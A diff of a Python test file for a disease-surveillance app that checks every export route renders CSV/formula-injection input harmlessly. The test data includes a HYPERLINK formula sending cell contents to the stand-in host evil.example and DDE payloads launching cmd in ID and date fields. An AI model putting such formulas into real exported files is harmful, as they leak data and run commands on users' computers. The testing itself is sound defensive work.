@@ -24,7 +24,7 @@ from tests.surveillance.profiles import acting
 from tests.surveillance.views.factories import add_case
 from tests.web.pages import log_in
 
-HOSTILE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 HOSTILE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE_DATE = "-2+3+cmd|' /C calc'!A0"
 HOSTILE_ZH = "+1+cmd|' /C calc'!A0"
@@ -81,9 +81,13 @@ def world(session: Session) -> dict[str, Any]:
     add_case(session, tree["C1A"], HOSTILE, external_id=HOSTILE_ID)
     actor = Actor(None, "importer", "investigator", tree["C1A"].id, tree["C1A"].path)
     bad = f"A9,{HOSTILE_ID},,female,1980-01-01,,C1A,{HOSTILE_DATE},2024-03-03,confirmed"
-    batch = import_file(session, acting(actor), filename="bad.csv",
-                        content=csv_bytes(EN_HEADER, [bad]),
-                        options=ImportOptions(disease="covid19"))
+    batch = import_file(
+        session,
+        acting(actor),
+        filename="bad.csv",
+        content=csv_bytes(EN_HEADER, [bad]),
+        options=ImportOptions(disease="covid19"),
+    )
     session.commit()
     make_user(session, "county", "investigator", "C1A")
     make_user(session, "city", "epidemiologist", "C1")
@@ -116,11 +120,14 @@ def _get(client: TestClient, user: str, url: str, api: bool) -> tuple[bytes, str
 
 CALLS: dict[str, list[Fetch]] = {
     "/surveillance/cases.csv": [
-        lambda c, w: _get(c, "county", "/surveillance/cases.csv?names=1", False)],
+        lambda c, w: _get(c, "county", "/surveillance/cases.csv?names=1", False)
+    ],
     "/surveillance/imports/{batch_id}/report.csv": [
-        lambda c, w: _get(c, "county", f"/surveillance/imports/{w['batch']}/report.csv", False)],
+        lambda c, w: _get(c, "county", f"/surveillance/imports/{w['batch']}/report.csv", False)
+    ],
     "/api/v1/case-imports/{batch_id}/report.csv": [
-        lambda c, w: _get(c, "county", f"/api/v1/case-imports/{w['batch']}/report.csv", True)],
+        lambda c, w: _get(c, "county", f"/api/v1/case-imports/{w['batch']}/report.csv", True)
+    ],
     "/response/league.csv": [lambda c, w: _get(c, "city", "/response/league.csv", False)],
     "/response/league.xlsx": [lambda c, w: _get(c, "city", "/response/league.xlsx", False)],
     "/api/v1/responses/league": [
@@ -134,9 +141,7 @@ def test_every_export_route_is_covered(app_factory: Callable[[], FastAPI]) -> No
     assert export_routes(app_factory()) == set(CALLS)
 
 
-def test_every_export_writes_hostile_text_inert(
-    client: TestClient, world: dict[str, Any]
-) -> None:
+def test_every_export_writes_hostile_text_inert(client: TestClient, world: dict[str, Any]) -> None:
     for route, fetches in CALLS.items():
         for fetch in fetches:
             body, media = fetch(client, world)
